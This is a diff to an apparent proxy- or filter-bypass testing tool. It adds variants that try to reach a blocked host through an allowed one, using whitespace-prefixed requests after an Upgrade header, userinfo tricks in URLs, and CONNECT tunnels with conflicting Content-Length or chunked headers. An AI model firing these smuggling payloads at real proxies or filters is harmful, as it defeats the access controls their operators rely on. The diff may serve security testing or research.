@@ -35,9 +35,10 @@ def smuggled(*headers, body):
                + body.format(closed=f"GET / HTTP/1.1\r\nHost: {CLOSED}{END}"))
 
 
-def tunnel(inner, together=False):
+def tunnel(inner, *headers, together=False):
     """What @inner(target) gives, in a tunnel to the open site's address."""
-    head = f"CONNECT {OPEN}:443 HTTP/1.1\r\nHost: {OPEN}:443{END}".encode()
+    head = "\r\n".join([f"CONNECT {OPEN}:443 HTTP/1.1", f"Host: {OPEN}:443", *headers])
+    head = (head + END).encode()
 
     def run(target):
         data = inner(target)
@@ -97,6 +98,14 @@ VARIANTS = {
     "upgrade-then-request": raw(UPGRADE + f"Upgrade: websocket{END}", GET_CLOSED, pause=0.1),
     "upgrade-then-tls": lambda target: raw(UPGRADE + f"Upgrade: TLS/1.2{END}",
                                            hello(target.closed), pause=0.1)(target),
+    "upgrade-then-blank": raw(UPGRADE + f"Upgrade: websocket{END}", " " + GET_CLOSED, pause=0.1),
+    "upgrade-then-odd-blank": raw(UPGRADE + f"Upgrade: websocket{END}",
+                                  "\f" + GET_CLOSED.replace(" ", "\v", 1), pause=0.1),
+    "user-with-backslash": raw(f"GET http://{CLOSED}\\@{OPEN}/ HTTP/1.1\r\nHost: {OPEN}{END}"),
+    "user-with-blank": raw(f"GET http://{CLOSED} @{OPEN}/ HTTP/1.1\r\nHost: {OPEN}{END}"),
+    "tunnel-with-length": tunnel(lambda target: hello(target.closed), "Content-Length: 9000"),
+    "tunnel-with-chunks": tunnel(lambda target: b"800\r\n" + hello(target.closed),
+                                 "Transfer-Encoding: chunked"),
     "tunnel": tunnel(lambda target: hello(target.closed)),
     "tunnel-at-once": tunnel(lambda target: hello(target.closed), together=True),
     "tunnel-request": tunnel(lambda target: request(target.closed)),
